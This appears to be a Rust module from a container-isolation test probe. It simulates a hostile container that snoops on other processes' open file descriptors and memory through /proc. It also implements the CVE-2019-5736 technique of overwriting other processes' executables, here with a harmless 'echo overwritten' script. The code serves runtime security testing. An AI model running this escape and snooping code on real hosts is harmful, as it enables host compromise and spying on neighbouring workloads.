//! What a hostile container does to its neighbours and to the runtime. Runs for a number of seconds, and prints a line for
//! each success.

use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

fn other_processes() -> Vec<PathBuf> {
    let own = std::process::id();
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    entries
        .filter(|e| e.file_name().to_string_lossy().parse::<u32>().is_ok_and(|pid| pid != own))
        .map(|e| e.path())
        .collect()
}

/// Looks at the fds of all other processes again and again, and prints what they point to, 0 to 2 left out, and what
/// else is open to a ptracer.
pub fn spy(seconds: u64) {
    crate::print_out("ready");
    let end = Instant::now() + Duration::from_secs(seconds);
    let mut seen = BTreeSet::new();
    while Instant::now() < end {
        for process in other_processes() {
            let fds = fs::read_dir(process.join("fd")).into_iter().flatten().flatten();
            for fd in fds.filter(|f| f.file_name().to_string_lossy().parse::<u32>().is_ok_and(|n| n > 2)) {
                if let Ok(target) = fs::read_link(fd.path()) {
                    report(&mut seen, format!("fd {}", target.display()));
                }
            }
            if File::open(process.join("mem")).is_ok() {
                let name = fs::read_to_string(process.join("comm")).unwrap_or_default();
                report(&mut seen, format!("mem of {}", name.trim()));
            }
        }
    }
    crate::print_out("done");
}

fn report(seen: &mut BTreeSet<String>, line: String) {
    if seen.insert(line.clone()) {
        crate::print_out(&line);
    }
}

/// CVE-2019-5736: opens the executable of every process that is not of this image, and tries to write to it until the
/// kernel lets it (the file is busy while it is executed).
pub fn overwrite(seconds: u64) {
    let known: Vec<(u64, u64)> = ["/bin/probe", "/bin/busybox"]
        .iter()
        .filter_map(|p| fs::metadata(p).ok())
        .map(|m| (m.dev(), m.ino()))
        .collect();
    crate::print_out("ready");
    let end = Instant::now() + Duration::from_secs(seconds);
    let mut held: Vec<File> = Vec::new();
    let mut seen = BTreeSet::new();
    while Instant::now() < end {
        for process in other_processes() {
            let Ok(file) = File::open(process.join("exe")) else { continue };
            let Ok(data) = file.metadata() else { continue };
            let id = (data.dev(), data.ino());
            if !known.contains(&id) && held.len() < 100 {
                report(&mut seen, format!("opened {}:{}", id.0, id.1));
                held.push(file);
            }
        }
        held.retain(|file| !written(&format!("/proc/self/fd/{}", file.as_raw_fd())));
    }
    crate::print_out("done");
}

fn written(path: &str) -> bool {
    let Ok(mut file) = OpenOptions::new().write(true).truncate(true).open(Path::new(path)) else { return false };
    let result = file.write_all(b"#!/bin/sh\necho overwritten\n");
    crate::print_out(&format!("WROTE to the executable: {result:?}"));
    true
}
